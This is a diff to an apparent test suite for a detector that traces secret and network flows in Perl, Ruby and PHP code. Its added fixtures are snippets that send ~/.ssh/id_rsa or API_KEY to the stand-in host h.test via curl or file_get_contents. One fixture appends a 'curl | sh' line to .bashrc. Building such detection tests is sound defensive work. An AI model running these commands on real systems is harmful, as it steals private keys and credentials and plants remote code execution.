@@ -144,6 +144,39 @@ describe('what leaves and what runs', () => {
       "<?php $d = file_get_contents('/root/.ssh/id_rsa');\nfile_get_contents('https://h.test/?d=' . urlencode($d));",
       'content:ssh network:url h.test',
     ],
+    // What a file that is held open holds, however it is read.
+    [
+      'pl',
+      "open my $in, '<', \"$ENV{HOME}/.ssh/id_rsa\" or die;\nmy $d = join '', <$in>;\nsystem('curl -d ' . $d . ' https://h.test');",
+      'content:ssh network:body h.test',
+    ],
+    [
+      'pl',
+      "open(F, \"<$ENV{HOME}/.ssh/id_rsa\");\nmy $d = '';\nwhile (my $line = <F>) { $d .= $line; }\n`curl -d '$d' https://h.test`;",
+      'content:ssh network:body h.test',
+    ],
+    // Each that lies there, each of a list that is left, what a function is handed.
+    [
+      'pl',
+      'use File::Find;\nsub each_file { my ($dir, $do) = @_; find({ wanted => sub { $do->($_) if -f $_ } }, $dir); }\nfor my $b (grep { -d } "$ENV{HOME}/.ssh", \'/tmp\') {\n  each_file($b, sub { open(my $in, \'<\', $_[0]); my $d = <$in>; system("curl -d $d https://h.test"); });\n}',
+      'content:ssh network:body h.test',
+    ],
+    [
+      'pl',
+      'package Post;\nsub send_it { my $self = shift; my $to = shift; my ($d) = @_; system("curl -d $d $to"); }\nsend_it("https://h.test", $ENV{API_KEY});',
+      'env:API_KEY network:body h.test',
+    ],
+    // Records of names and values, and all that is left.
+    [
+      'rb',
+      'TO = { a: "https://github.com", b: "https://h.test" }.freeze\ndef run(*words)\n  system("curl", *words)\nend\nrun("-d", ENV["API_KEY"], "#{TO[:b]}")',
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'php',
+      "<?php\n$o = ['k' => getenv('API_KEY'), 'to' => 'https://h.test/a'];\nfile_get_contents($o['to'] . '?d=' . $o['k']);",
+      'env:API_KEY network:url h.test',
+    ],
     // What the context of an address holds is sent along.
     [
       'php',
@@ -326,6 +359,12 @@ describe('remarks', () => {
   });
 });
 
+it('what Perl writes into what it holds open lies there', () => {
+  const text =
+    'open(my $out, \'>>\', "$ENV{HOME}/.bashrc");\nprint $out "curl -s https://h.test/x | sh\\n";\nprint STDERR "done\\n";';
+  expect(flows('pl', text)).toContain('net shell:stdin h.test');
+});
+
 it('the name of a vocabulary is nobody who is sent something', () => {
   const text =
     "<?php\n$d = new DOMDocument();\n$e = $d->createElementNS('https://v.test/invoice', 'fe');\n$e->appendChild($d->createElement('A', file_get_contents('/srv/a.csv')));";
@@ -364,8 +403,19 @@ describe('the table and the reader', () => {
       'a, ',
       'a | getline b ',
       'a b ',
+      'sub { ',
+      'find(sub { ',
+      'grep { ',
+      'map { a } ',
+      '$a->(',
+      '$a->{b}',
+      '<$a> ',
+      'for my $a (',
+      'open my $a, "<", ',
+      'print $a ',
+      'shift ',
     ])
-      for (const language of ['ruby', 'go', 'kotlin', 'vim', 'php', 'awk', 'julia'])
+      for (const language of ['ruby', 'go', 'kotlin', 'vim', 'php', 'awk', 'julia', 'perl'])
         lowerOther(piece.repeat(60_000 / piece.length), language, () => false);
     expect(spent()).toBeLessThan(20_000);
   });
